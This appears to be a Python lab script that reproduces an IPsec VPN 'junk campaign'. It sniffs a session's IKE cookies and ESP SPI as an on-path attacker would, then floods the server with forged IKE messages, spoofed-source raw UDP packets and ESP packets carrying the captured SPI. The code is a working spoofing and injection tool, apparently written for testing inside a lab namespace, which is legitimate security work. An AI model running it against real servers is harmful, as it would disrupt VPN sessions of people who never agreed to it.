"""The junk campaign of issue 11, as a program run inside a lab namespace.

    junk_flood.py sniff IFACE OUT_JSON PEER SERVER
        (in the "internet" switch) watch IFACE until an IKE message from PEER to
        SERVER with both cookies set, and an ESP-in-UDP packet, have passed; write
        {"cookies": hex, "spi": hex} to OUT_JSON (what an on-path attacker learns).

    junk_flood.py flood SERVER COOKIES_JSON SECONDS RESULT_JSON SPOOF_PREFIX
        (on the internet) for SECONDS send: random datagrams and copies of the
        session's cookies with junk to UDP 500 and 4500, from its own address and
        (raw IP) from spoofed SPOOF_PREFIX.100-199 sources; raw ESP (protocol 50)
        with unknown SPIs and the session's SPI; ESP in UDP 4500 with that SPI.
        Writes {"packets": n, "start": t0, "end": t1} (UNIX times) to RESULT_JSON.

Traffic stays inside the lab's namespaces (203.0.113.0/24).
"""

from __future__ import annotations

import json
import os
import random
import socket
import struct
import sys
import time
from pathlib import Path

ETH_P_ALL = 0x0003
NON_ESP = bytes(4)


def sniff(iface: str, out: str, peer: str, server: str) -> None:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    s.settimeout(1.0)
    found: dict[str, str] = {}
    deadline = time.time() + 120
    src, dst = socket.inet_aton(peer), socket.inet_aton(server)
    while time.time() < deadline and len(found) < 2:
        try:
            frame = s.recv(65535)
        except TimeoutError:
            continue
        ip = frame[14:]
        if len(ip) < 28 or ip[9] != 17 or ip[12:16] != src or ip[16:20] != dst:
            continue
        ihl = (ip[0] & 0x0F) * 4
        dport = struct.unpack("!H", ip[ihl + 2:ihl + 4])[0]
        payload = ip[ihl + 8:]
        if dport == 4500 and payload[:4] == NON_ESP:
            payload = payload[4:]
        elif dport == 4500 and len(payload) > 8:
            found.setdefault("spi", payload[:4].hex())
            continue
        if dport in (500, 4500) and len(payload) >= 28 and payload[8:16] != bytes(8):
            found.setdefault("cookies", payload[:16].hex())
    Path(out).write_text(json.dumps(found))


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _spoofed_udp(src: str, dst: str, sport: int, dport: int, payload: bytes) -> bytes:
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload  # no UDP checksum
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                      socket.inet_aton(src), socket.inet_aton(dst))
    hdr = hdr[:10] + struct.pack("!H", _checksum(hdr)) + hdr[12:]
    return hdr + udp


def _ike_junk(rng: random.Random, cookies: bytes) -> bytes:
    kind = rng.randrange(4)
    if kind == 0:  # the session's cookies, an "encrypted" informational/quick mode of junk
        body = rng.randbytes(rng.choice((16, 32, 48, 64, 80)))
        exch = rng.choice((5, 32, 6))
        return cookies + bytes((8, 0x10, exch, 1)) + rng.randbytes(4) + \
            (28 + len(body)).to_bytes(4, "big") + body
    if kind == 1:  # the session's cookies, garbage
        return cookies + rng.randbytes(rng.randrange(12, 200))
    if kind == 2:  # random bytes
        return rng.randbytes(rng.randrange(28, 300))
    # a first message of junk from a new initiator cookie
    body = rng.randbytes(rng.randrange(40, 200))
    return rng.randbytes(8) + bytes(8) + bytes((1, 0x10, 4, 0)) + bytes(4) + \
        (28 + len(body)).to_bytes(4, "big") + body


def flood(server: str, cookies_json: str, seconds: float, result: str, spoof: str) -> None:
    info = json.loads(Path(cookies_json).read_text())
    cookies = bytes.fromhex(info["cookies"])
    spi = bytes.fromhex(info.get("spi", "00000000"))
    rng = random.Random(int.from_bytes(os.urandom(4), "big"))
    udp = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(8)]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL
    esp = socket.socket(socket.AF_INET, socket.SOCK_RAW, 50)
    sent = 0
    start = time.time()
    end = start + seconds
    while time.time() < end:
        for _ in range(50):
            k = rng.randrange(8)
            if k < 3:  # from our own address, random source ports
                port = rng.choice((500, 4500))
                data = _ike_junk(rng, cookies)
                rng.choice(udp).sendto(NON_ESP + data if port == 4500 else data,
                                       (server, port))
            elif k < 5:  # spoofed sources
                port = rng.choice((500, 4500))
                data = _ike_junk(rng, cookies)
                src = f"{spoof}.{rng.randrange(100, 200)}"
                raw.sendto(_spoofed_udp(src, server, rng.randrange(1024, 65535), port,
                                        NON_ESP + data if port == 4500 else data),
                           (server, 0))
            elif k == 5:  # raw ESP, unknown SPI or the session's
                head = spi if rng.random() < 0.5 else rng.randbytes(4)
                esp.sendto(head + rng.randbytes(rng.randrange(8, 200)), (server, 0))
            else:  # ESP in UDP 4500 with the session's SPI (forged or replayed-looking)
                rng.choice(udp).sendto(spi + rng.randbytes(rng.randrange(12, 200)),
                                       (server, 4500))
            sent += 1
        time.sleep(0.02)  # about 2,500 packets a second: the campaign, not a DoS
    Path(result).write_text(json.dumps({"packets": sent, "start": start, "end": time.time()}))


if __name__ == "__main__":
    if sys.argv[1] == "sniff":
        sniff(*sys.argv[2:6])
    else:
        flood(sys.argv[2], sys.argv[3], float(sys.argv[4]), sys.argv[5], sys.argv[6])
